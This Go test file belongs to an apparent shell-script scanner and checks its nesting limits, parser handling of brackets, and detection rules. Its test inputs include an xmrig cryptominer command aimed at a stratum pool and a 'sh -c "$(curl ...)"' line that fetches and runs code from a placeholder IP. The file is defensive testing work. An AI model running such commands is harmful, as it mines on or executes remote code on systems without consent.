package hierarchical

import (
	"strings"
	"testing"
)

func TestShellNestingExceeded(t *testing.T) {
	deep := func(open, close string, n int) string {
		return strings.Repeat(open, n) + "true" + strings.Repeat(close, n)
	}
	over := maxShellNesting + 1
	tests := []struct {
		name string
		src  string
		want string // substring of the reason; "" means the text may be parsed
	}{
		{"subshells at the bound", deep("(", ")", maxShellNesting), ""},
		{"subshells over the bound", deep("(", ")", over), "nesting deeper than 256"},
		{"command substitutions", "echo " + deep("$(", ")", over), "nesting deeper"},
		{"blocks", deep("{ ", "; }", over), "nesting deeper"},
		{"arithmetic substitutions", "echo " + deep("$((", "))", over/2+1), "nesting deeper"},
		{"parameter expansions", "echo " + deep("${a:-", "}", over), "nesting deeper"},
		{"backquotes in double quotes", `echo "` + deep("$(echo \"", "\")", over) + `"`, "nesting deeper"},
		{"closers hidden in quotes", "echo " + deep("$(echo ')' \")\" $'\\')' ", ")", over), "nesting deeper"},
		{"closers hidden in case patterns", deep("$(case x in a) ", ";; esac)", over), "nesting deeper"},
		{"closers hidden in comments", deep("$(# )\n", ")", over), "nesting deeper"},
		{"closers hidden in a here-document", deep("$(cat <<'E'\n)\nE\n", ")", over), "nesting deeper"},
		{"closers of the wrong kind", "echo " + deep("$(${a//)/}", ")", over), "nesting deeper"},
		{"too many openers", strings.Repeat("(true) ", maxShellOpeners+1), "more than 32768 opening brackets"},
		// Real shell that must be parsed.
		{"brackets in quotes and comments", strings.Repeat("echo '((((' \"{{{{\" # ((((\n", 500), ""},
		{"case statements", strings.Repeat("case $x in (a) echo a;; b) echo b;; esac\n", 500), ""},
		{"here-documents", strings.Repeat("cat <<-EOF\n\t(((( $(date)\n\tEOF\n", 500), ""},
		{"arithmetic shifts are not here-documents", strings.Repeat("x=$((1<<2)); ((y = x << 1))\n", 500), ""},
		{"parameter lengths are not comments", strings.Repeat("echo ${#a[@]} ${x#pre} $#\n", 500), ""},
		{"here-strings", strings.Repeat("read a <<< \"(x\"\n", 500), ""},
		{"line continuation and escapes", strings.Repeat("echo \\( \\{ \\`; \\\n", 500), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := shellNestingExceeded(tt.src)
			if (got == "") != (tt.want == "") || !strings.Contains(got, tt.want) {
				t.Errorf("shellNestingExceeded = %q, want %q", got, tt.want)
			}
		})
	}
}

// TestUnparsedShellHits: text over the bound is not parsed, and says so, but
// the text rules still see it.
func TestUnparsedShellHits(t *testing.T) {
	src := "xmrig -o stratum+tcp://198.51.100.7:3333 --donate-level 1; " + strings.Repeat("$(", maxShellNesting+1)
	got := map[string]bool{}
	for _, h := range analyzeScript(parseShell("sh -c '"+src+"'"), false) {
		got[h.rule] = true
	}
	for _, r := range []string{RuleNotScanned, RuleStratumURL, RuleMinerOptions} {
		if !got[r] {
			t.Errorf("rule %s missing; got %v", r, got)
		}
	}
	if got[RuleRunMiner] {
		t.Errorf("run-miner needs the parse, got %v", got)
	}
}

// TestRenderNestedSubstitutionsLinear: every command inside nested "$(...)"
// renders the words around it; printing each level's whole subtree made 10k
// levels cost 101 s and 937 MB. The rendered bytes must grow linearly.
func TestRenderNestedSubstitutionsLinear(t *testing.T) {
	const n = 10_000
	src := "echo " + strings.Repeat("$(echo ", n) + "x" + strings.Repeat(")", n)
	sc := parseBash(src, maxShellDepth) // past the nesting bound on purpose
	rendered := 0
	for _, c := range sc.cmds {
		for _, a := range c.argv {
			rendered += len(a)
		}
	}
	if len(sc.cmds) != n+1 {
		t.Fatalf("parsed %d commands, want %d", len(sc.cmds), n+1)
	}
	if limit := (n + 1) * (maxRenderedExpansion + 16); rendered > limit {
		t.Errorf("rendered %d bytes for %d nested substitutions, want at most %d", rendered, n, limit)
	}
}

func TestRenderSmallExpansionPrinted(t *testing.T) {
	sc := parseShell("sh -c \"$( curl  -s http://198.51.100.7/x )\"")
	if len(sc.cmds) == 0 || len(sc.cmds[0].argv) != 3 || sc.cmds[0].argv[2] != "$(curl -s http://198.51.100.7/x)" {
		t.Fatalf("commands %+v, want the substitution printed as $(curl -s http://198.51.100.7/x)", sc.cmds)
	}
}
